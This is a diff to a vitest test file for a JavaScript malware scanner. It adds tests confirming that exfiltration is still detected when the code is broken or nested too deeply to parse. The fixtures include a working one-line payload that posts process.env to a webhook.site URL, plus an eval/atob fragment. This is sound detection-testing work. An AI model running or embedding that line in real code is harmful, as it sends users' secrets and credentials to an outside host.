@@ -1,13 +1,15 @@
 import { beforeAll, expect, test } from 'vitest';
+import { longestCut } from '../bounds.ts';
 import { prepare, scanFile } from '../scan-file.ts';
 
 beforeAll(() => prepare(new Set(['javascript'])));
 
-function scan(text: string, path = 'a.js') {
+function scanAll(text: string, path = 'a.js') {
   const bytes = new TextEncoder().encode(text);
   const file = { path, language: 'javascript', text, bytes } as const;
-  return scanFile(file, { indicators: true }).findings;
+  return scanFile(file, { indicators: true });
 }
+const scan = (text: string, path?: string) => scanAll(text, path).findings;
 const worst = (text: string, path?: string) =>
   scan(text, path)
     .filter(({ severity }) => severity !== 'info')
@@ -189,11 +191,25 @@ test.each([
   expect(Array.isArray(scan(text))).toBe(true);
 });
 
-test('broken code is said to be so, and read by words', () => {
-  expect(scan('eval( atob("x" fetch process.env')[0]).toMatchObject({
-    rule: 'unparseable-code',
-    severity: 'warn',
-  });
+test('what can be made out of broken code is followed, and words of the rest count', () => {
+  const body = 'fetch("https://webhook.site/x", { body: JSON.stringify(process.env) });';
+  const mistakes = ['let x = = 3;', '))', 'const { a: = b;', 'if (', "'", '${', '/* ', 'class {'];
+  for (const mistake of mistakes) {
+    expect(worst(`${body}\n${mistake}\n`), mistake).toContain('exfiltration critical 1');
+    expect(scan(`${body}\n${mistake}\n`).map(({ rule }) => rule)).toContain('unparseable-code');
+  }
+  expect(worst('eval( atob("x" fetch process.env')).toContain('unparseable-code warn 1');
+});
+
+test('code that nests too deep to be read is neither cleared nor taken as read', () => {
+  const body = 'fetch("https://webhook.site/x", { body: JSON.stringify(process.env) });';
+  for (const deep of [`${'('.repeat(20_000)}1${')'.repeat(20_000)}`, `${'!'.repeat(50_000)}1`]) {
+    const { findings, facts } = scanAll(`x = ${deep};\n${body}`);
+    expect(findings).toMatchObject([
+      { rule: 'unparseable-code', message: 'deep', severity: 'warn' },
+    ]);
+    expect(longestCut(facts)).toBeDefined();
+  }
 });
 
 test('TypeScript, JSX and old scripts', () => {
